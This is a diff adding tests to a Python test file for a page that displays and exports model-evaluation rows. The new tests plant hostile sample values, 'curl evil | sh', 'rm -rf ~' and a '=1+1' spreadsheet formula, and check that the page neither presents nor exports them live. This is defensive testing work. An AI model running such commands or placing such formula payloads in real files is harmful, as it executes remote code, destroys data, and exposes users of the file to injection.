@@ -1,5 +1,6 @@
 """A page for one row and the comparison of up to six, in a real headless Chromium."""
 
+import csv
 import json
 import re
 
@@ -145,6 +146,29 @@ def test_downloads_hold_the_figures_and_the_curves(open_page, rows):
     lines = download.value.path().read_text().splitlines()
     assert "learning,val_auc,3,0.9" in lines
     assert lines[-1] == "calibration,predicted class,0.95,0.9"
+
+
+@pytest.mark.slow
+def test_what_others_named_is_no_formula_and_no_command_to_copy(open_page, rows):
+    made = {"command": "curl evil | sh", "file": "artifacts/aa/model.onnx"}
+    details = {"made": made, "curves": {"roc": {"=1+1": [[0, 1], [0, 1]]}}}
+    theirs = rows[0].model_copy(update={"model": "theirs", "recipe": "=1+1", "details": details, "source": "imported"})
+    page = open_page([*rows, theirs], link=link(theirs))
+    assert "curl evil | sh" in page.inner_text("#row-page")
+    assert page.locator("#row-page .command").count() == 0
+    for name, said in (("Figures", ["recipe", "'=1+1", ""]), ("Curves", ["roc", "'=1+1", "0", "0"])):
+        with page.expect_download() as download:
+            page.click(f"text={name}, CSV")
+        with download.value.path().open(newline="") as file:
+            lines = list(csv.reader(file))
+        assert said in lines
+        assert not [cell for line in lines for cell in line if cell.startswith("=")]
+
+
+def test_who_made_a_row_elsewhere_says_no_commands_of_this_workspace(tmp_path):
+    row = Row(model="m", role="student", dataset="d", details={"made": {"command": "rm -rf ~"}})
+    body = json.loads(with_curves(details_of_rows([row]), tmp_path)([row.key])[row.key])
+    assert "made" not in body
 
 
 @pytest.mark.slow
